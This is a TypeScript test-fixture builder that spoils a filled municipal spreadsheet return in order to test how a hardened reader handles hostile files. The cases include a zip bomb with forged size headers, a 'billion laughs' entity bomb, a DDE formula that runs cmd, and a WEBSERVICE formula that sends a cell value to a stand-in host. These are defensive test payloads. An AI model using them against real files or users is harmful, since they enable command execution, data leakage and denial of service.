/**
 * Builds test/fixtures/hostile/: hostile and unlucky returns made from a real filled return
 * (the UKN template rendered from the catalogue and layout, filled with a complete, consistent
 * return), one per class the hardening issue met: elements that ask a reader to materialise a
 * whole sheet, 200 000 left-over names, a zip that lies about its sizes or holds a sheet twice,
 * entity declarations, merged inputs, formulas with and without a stored result, an ISO date
 * cell, an ambiguous `1,400`, and active content (WEBSERVICE, DDE, an external link, macros).
 *
 * Each file is the good return's XML with one spoiled element, edited at the XML level (as a
 * tool or an attacker would), because ExcelJS could not even load most of them. Like the bad
 * fixtures, they are generated at test time and git-ignored. Each case says what it must give:
 * the reading findings, and the values of the fields it touches (every other field must read
 * as in the good return).
 */
import { mkdirSync, writeFileSync } from "fs";
import { join } from "path";
import JSZip from "jszip";
import { partsOf, zipParts } from "./zip";
import { buildTemplateWorkbook, namedCells } from "../src/domain/layout";
import type { Severity } from "../src/domain/model";
import { fillWorkbook, renderWorkbook } from "../src/xlsx";
import { goodUknValues } from "../test/helpers/values";

export interface HostileFinding {
  readonly rule: string;
  readonly severity: Severity;
  /** The field whose cell the finding names (from the layout); none for file-level findings. */
  readonly field?: string;
  /** A cell that is no field (active content in another cell). */
  readonly cell?: string;
}

export interface HostileCase {
  readonly name: string;
  readonly why: string;
  /** Crashed or hung the ExcelJS reader: the test runs it under a memory limit. */
  readonly crash: boolean;
  /** The reader's findings (RawReturn.findings), exactly. */
  readonly expected: readonly HostileFinding[];
  /** Fields whose value differs from the good return's, and what they must read as. */
  readonly values?: Readonly<Record<string, unknown>>;
  /** Every field reads as empty (a merged area over the whole sheet). */
  readonly allEmpty?: true;
  /** The file is refused as a whole: nothing is read. */
  readonly refused?: boolean;
}

interface Spec extends HostileCase {
  readonly spoil: (z: Package) => Promise<Uint8Array | void>;
}

export const KOMMUNE = "Aarhus";
export const TEMPLATES = ["ukn"] as const;
const DATA_SHEET = "UKN Data";

/** The filled return as a zip whose XML parts can be edited. */
class Package {
  constructor(
    readonly zip: JSZip,
    readonly sheetPart: string
  ) {}

  async text(part: string): Promise<string> {
    return this.zip.file(part)!.async("string");
  }

  async edit(part: string, fn: (xml: string) => string): Promise<void> {
    const before = await this.text(part);
    const after = fn(before);
    if (after === before) throw new Error(`${part}: ændringen ramte intet`);
    this.zip.file(part, after);
  }

  /** Replaces one cell's element on the Data sheet, keeping its style. */
  async cell(ref: string, inner: string, type?: string): Promise<void> {
    await this.edit(this.sheetPart, (xml) =>
      xml.replace(new RegExp(`<c r="${ref}"([^>]*?)(?:/>|>.*?</c>)`), (_m, attrs: string) => {
        const style = / s="\d+"/.exec(attrs)?.[0] ?? "";
        return `<c r="${ref}"${style}${type ? ` t="${type}"` : ""}>${inner}</c>`;
      })
    );
  }

  /** Adds an element before `</worksheet>`'s tail element `before` (e.g. "pageMargins"). */
  async sheetElement(xml: string, before: string): Promise<void> {
    await this.edit(this.sheetPart, (s) => s.replace(`<${before}`, `${xml}<${before}`));
  }

  /** The package as a zip, with any parts given replaced by these bytes. */
  async bytes(replaced: Readonly<Record<string, Uint8Array>> = {}): Promise<Uint8Array> {
    return zipParts(
      (await partsOf(this.zip)).map(([name, data]) => [name, replaced[name] ?? data])
    );
  }
}

const cells = namedCells(buildTemplateWorkbook(KOMMUNE, [...TEMPLATES]));
const at = (field: string) => cells.get(field)!.cell;

/** Overwrites a field's 32-bit size fields in a zip's local header and central directory. */
export function patchDeclaredSize(zip: Uint8Array, part: string, size: number): void {
  const name = new TextEncoder().encode(part);
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  let patched = 0;
  for (let i = 0; i + 46 < zip.length; i++) {
    const sig = view.getUint32(i, true);
    const nameAt = sig === 0x04034b50 ? i + 30 : sig === 0x02014b50 ? i + 46 : -1;
    if (nameAt < 0) continue;
    const len = view.getUint16(sig === 0x04034b50 ? i + 26 : i + 28, true);
    if (len !== name.length || !name.every((b, k) => zip[nameAt + k] === b)) continue;
    view.setUint32(sig === 0x04034b50 ? i + 22 : i + 24, size, true);
    patched++;
  }
  if (patched !== 2) throw new Error(`${part}: ${patched} størrelser rettet, ventede 2`);
}

/** Renames a zip entry in place (same length): both headers. */
function renameEntry(zip: Uint8Array, from: string, to: string): void {
  const a = new TextEncoder().encode(from);
  const b = new TextEncoder().encode(to);
  if (a.length !== b.length) throw new Error("navnene skal være lige lange");
  let renamed = 0;
  for (let i = 0; i + a.length <= zip.length; i++) {
    if (a.every((x, k) => zip[i + k] === x)) {
      zip.set(b, i);
      renamed++;
    }
  }
  if (renamed !== 2) throw new Error(`${from}: ${renamed} navne rettet, ventede 2`);
}

const e = (rule: string, severity: Severity, field?: string): HostileFinding =>
  field ? { rule, severity, field } : { rule, severity };

const HOURS = "ukn.hovedsager.timer_pr_sag";

const SPECS: readonly Spec[] = [
  // --- elements that ask a reader to materialise a whole sheet (crashed ExcelJS) -------------
  {
    name: "kolonner_ud_over_xfd",
    why: "<col max> langt ud over Excels 16.384 kolonner på dataarket",
    crash: true,
    expected: [],
    spoil: (z) =>
      z.edit(z.sheetPart, (s) =>
        s.replace(/<cols>/, '<cols><col min="8" max="2000000000" width="9"/>')
      ),
  },
  {
    name: "flet_hele_arket",
    why: "Et flettet område over A1:XFD1048576 på dataarket: det dækker alle felter",
    crash: true,
    expected: [{ rule: "flettede_celler", severity: "advarsel", cell: "A1" }],
    allEmpty: true,
    spoil: (z) =>
      z.edit(z.sheetPart, (s) =>
        s.replace(
          /<mergeCells count="(\d+)">/,
          (_m, n: string) => `<mergeCells count="${Number(n) + 1}"><mergeCell ref="A1:XFD1048576"/>`
        )
      ),
  },
  {
    name: "validering_hele_arket",
    why: "Datavalidering over A1:XFD1048576 på dataarket",
    crash: true,
    expected: [],
    spoil: (z) =>
      z.edit(z.sheetPart, (s) =>
        s.replace(
          /<dataValidations count="(\d+)">/,
          (_m, n: string) =>
            `<dataValidations count="${Number(n) + 1}"><dataValidation type="whole" allowBlank="1" sqref="A1:XFD1048576"><formula1>0</formula1></dataValidation>`
        )
      ),
  },
  {
    name: "navn_hele_arket",
    why: "Et navn over hele dataarket ('UKN Data'!$A$1:$XFD$1048576)",
    crash: true,
    expected: [],
    spoil: (z) =>
      z.edit("xl/workbook.xml", (s) =>
        s.replace(
          "<definedNames>",
          `<definedNames><definedName name="hele_arket">'${DATA_SHEET}'!$A$1:$XFD$1048576</definedName>`
        )
      ),
  },
  {
    name: "navne_200000",
    why: "200.000 efterladte navne (fx fra kopiering mellem projektmapper)",
    crash: true,
    expected: [],
    spoil: (z) =>
      z.edit("xl/workbook.xml", (s) => {
        const names: string[] = [];
        for (let i = 0; i < 200_000; i++)
          names.push(
            `<definedName name="gammel_${i}">'${DATA_SHEET}'!$H$${(i % 1000) + 1}</definedName>`
          );
        return s.replace("<definedNames>", `<definedNames>${names.join("")}`);
      }),
  },
  {
    name: "zip_falske_stoerrelser",
    why: "Dataarket pakkes ud til 200 MB, men zip-filen oplyser den oprindelige størrelse",
    crash: true,
    refused: true,
    expected: [e("zipbombe", "fejl")],
    spoil: async (z) => {
      const original = await z.text(z.sheetPart);
      const huge = original.replace("<sheetData>", `<sheetData>${" ".repeat(200 * 1024 * 1024)}`);
      const bytes = await z.bytes({ [z.sheetPart]: Buffer.from(huge, "utf8") });
      patchDeclaredSize(bytes, z.sheetPart, new TextEncoder().encode(original).length);
      return bytes;
    },
  },
  {
    name: "ark_to_gange",
    why: "Zip-filen rummer dataarket to gange (den anden kopi med andre tal)",
    crash: false,
    refused: true,
    expected: [e("dobbelt_del", "fejl")],
    spoil: async (z) => {
      const copyName = z.sheetPart.replace(/sheet(\d)\.xml$/, "sheetX.xml");
      const other = (await z.text(z.sheetPart)).replace(/<v>40<\/v>/g, "<v>400</v>");
      z.zip.file(copyName, other);
      const bytes = await z.bytes();
      renameEntry(bytes, copyName, z.sheetPart);
      return bytes;
    },
  },
  {
    name: "xml_entiteter",
    why: "En DOCTYPE med entiteter (»billion laughs«) i delte tekster",
    crash: true,
    refused: true,
    expected: [e("xml_doctype", "fejl")],
    spoil: (z) =>
      z.edit("xl/sharedStrings.xml", (s) => {
        const ents = ['<!ENTITY a0 "ha">'];
        for (let i = 1; i < 10; i++) ents.push(`<!ENTITY a${i} "${`&a${i - 1};`.repeat(10)}">`);
        return s
          .replace("<sst", `<!DOCTYPE sst [${ents.join("")}]><sst`)
          .replace(/<t>Aarhus<\/t>/, "<t>&a9;</t>");
      }),
  },
  // --- no value invented or silently chosen -------------------------------------------------
  {
    name: "flettede_input",
    why: "Timer pr. hovedsag flettet over 2019–2023; et værktøj har ladet tallene i de skjulte celler stå",
    crash: false,
    expected: [e("flettede_celler", "advarsel", `${HOURS}.2019`)],
    values: {
      [`${HOURS}.2019`]: 40,
      [`${HOURS}.2020`]: null,
      [`${HOURS}.2021`]: null,
      [`${HOURS}.2022`]: null,
      [`${HOURS}.2023`]: null,
    },
    spoil: (z) =>
      z.edit(z.sheetPart, (s) =>
        s.replace(
          /<mergeCells count="(\d+)">/,
          (_m, n: string) =>
            `<mergeCells count="${Number(n) + 1}"><mergeCell ref="${at(`${HOURS}.2019`)}:${at(`${HOURS}.2023`)}"/>`
        )
      ),
  },
  {
    name: "formel_gemt_nul",
    why: "En formel med det gemte resultat 0 i en procentcelle (Andet 2019 = 0, Udtalelse = 100)",
    crash: false,
    expected: [],
    values: { "ukn.hovedsager.andet.2019": 0, "ukn.hovedsager.udtalelse.2019": 100 },
    spoil: async (z) => {
      await z.cell(at("ukn.hovedsager.udtalelse.2019"), "<v>100</v>");
      await z.cell(at("ukn.hovedsager.andet.2019"), "<f>100-100</f><v>0</v>");
    },
  },
  {
    name: "formel_uden_resultat",
    why: "Timer pr. hovedsag 2020 er en formel uden gemt resultat",
    crash: false,
    expected: [e("formel_uden_resultat", "fejl", `${HOURS}.2020`)],
    values: { [`${HOURS}.2020`]: null },
    spoil: (z) => z.cell(at(`${HOURS}.2020`), "<f>20*2</f>"),
  },
  {
    name: "iso_dato_i_timer",
    why: 'Timer pr. hovedsag 2021 er en datocelle (t="d") med 2023-04-01',
    crash: false,
    expected: [],
    values: { [`${HOURS}.2021`]: new Date("2023-04-01") },
    spoil: (z) => z.cell(at(`${HOURS}.2021`), "<v>2023-04-01</v>", "d"),
  },
  {
    name: "tal_1_400",
    why: "»1,400« som tekst i timer pr. hovedsag 2022",
    crash: false,
    expected: [],
    values: { [`${HOURS}.2022`]: "1,400" },
    spoil: (z) => z.cell(at(`${HOURS}.2022`), "<is><t>1,400</t></is>", "inlineStr"),
  },
  // --- active content -----------------------------------------------------------------------
  {
    name: "webservice",
    why: "En WEBSERVICE-formel i H8 på dataarket, der sender et tal ud",
    crash: false,
    expected: [{ rule: "aktivt_indhold", severity: "advarsel", cell: "H8" }],
    spoil: (z) =>
      z.edit(z.sheetPart, (s) =>
        s.replace(
          /(<row r="8"[^>]*>)(.*?)(<\/row>)/,
          (_m, open: string, body: string, close: string) =>
            `${open}${body}<c r="H8" t="str"><f>_xlfn.WEBSERVICE("https://example.invalid/?v="&amp;${at(`${HOURS}.2019`)})</f><v>#VALUE!</v></c>${close}`
        )
      ),
  },
  {
    name: "dde",
    why: "Et DDE-link (cmd) i H8 og som ekstern henvisning",
    crash: false,
    expected: [
      e("aktivt_indhold", "advarsel"),
      { rule: "aktivt_indhold", severity: "advarsel", cell: "H8" },
    ],
    spoil: async (z) => {
      await z.edit(z.sheetPart, (s) =>
        s.replace(
          /(<row r="8"[^>]*>)(.*?)(<\/row>)/,
          (_m, open: string, body: string, close: string) =>
            `${open}${body}<c r="H8"><f>cmd|' /C calc'!A0</f><v>0</v></c>${close}`
        )
      );
      z.zip.file(
        "xl/externalLinks/externalLink1.xml",
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic=" /C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
      );
    },
  },
  {
    name: "ekstern_henvisning",
    why: "En henvisning til en anden projektmappe (externalLink med externalBook)",
    crash: false,
    expected: [e("aktivt_indhold", "advarsel")],
    spoil: async (z) => {
      z.zip.file(
        "xl/externalLinks/externalLink1.xml",
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Ark1"/></sheetNames></externalBook></externalLink>'
      );
      z.zip.file(
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/andet.xlsx" TargetMode="External"/></Relationships>'
      );
    },
  },
  {
    name: "makro",
    why: "En makrodel (xl/vbaProject.bin)",
    crash: false,
    expected: [e("aktivt_indhold", "advarsel")],
    spoil: async (z) => {
      z.zip.file("xl/vbaProject.bin", new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3, 4]));
    },
  },
];

/** The good return every case starts from. */
export async function goodReturn(): Promise<Uint8Array> {
  const r = await fillWorkbook(
    await renderWorkbook(buildTemplateWorkbook(KOMMUNE, [...TEMPLATES])),
    goodUknValues()
  );
  if (!r.ok) throw new Error(JSON.stringify(r.errors));
  return r.bytes;
}

/** The part of a sheet by its name, through workbook.xml and its relationships. */
async function sheetPart(zip: JSZip, sheet: string): Promise<string> {
  const wb = await zip.file("xl/workbook.xml")!.async("string");
  const rid = new RegExp(`<sheet [^>]*name="${sheet}"[^>]*r:id="([^"]+)"`).exec(wb)![1];
  const rels = await zip.file("xl/_rels/workbook.xml.rels")!.async("string");
  const target =
    new RegExp(`<Relationship [^>]*Id="${rid}"[^>]*Target="([^"]+)"`).exec(rels)?.[1] ??
    new RegExp(`<Relationship [^>]*Target="([^"]+)"[^>]*Id="${rid}"`).exec(rels)![1];
  return target.startsWith("/") ? target.slice(1) : `xl/${target}`;
}

export interface BuiltHostile extends HostileCase {
  readonly path: string;
}

/** Writes the good return and every hostile case into `dir`. */
export async function buildHostileReturns(
  dir: string
): Promise<{ good: string; cases: BuiltHostile[] }> {
  mkdirSync(dir, { recursive: true });
  const good = await goodReturn();
  const goodPath = join(dir, "god.xlsx");
  writeFileSync(goodPath, good);
  const out: BuiltHostile[] = [];
  for (const spec of SPECS) {
    const zip = await JSZip.loadAsync(good);
    const pkg = new Package(zip, await sheetPart(zip, DATA_SHEET));
    const bytes = (await spec.spoil(pkg)) ?? (await pkg.bytes());
    const path = join(dir, `${spec.name}.xlsx`);
    writeFileSync(path, bytes);
    const { spoil: _spoil, ...rest } = spec;
    out.push({ ...rest, path });
  }
  return { good: goodPath, cases: out };
}

/** The cell a hostile finding names, as `Sheet!Cell` (undefined for file-level findings). */
export function expectedCell(f: HostileFinding): string | undefined {
  if (f.field) return `${cells.get(f.field)!.sheet}!${cells.get(f.field)!.cell}`;
  if (f.cell) return `${DATA_SHEET}!${f.cell}`;
  return undefined;
}

if (require.main === module) {
  void buildHostileReturns(join(__dirname, "..", "test", "fixtures", "hostile")).then((r) =>
    process.stdout.write(`Skrev ${r.cases.length} fjendtlige returer og god.xlsx.\n`)
  );
}
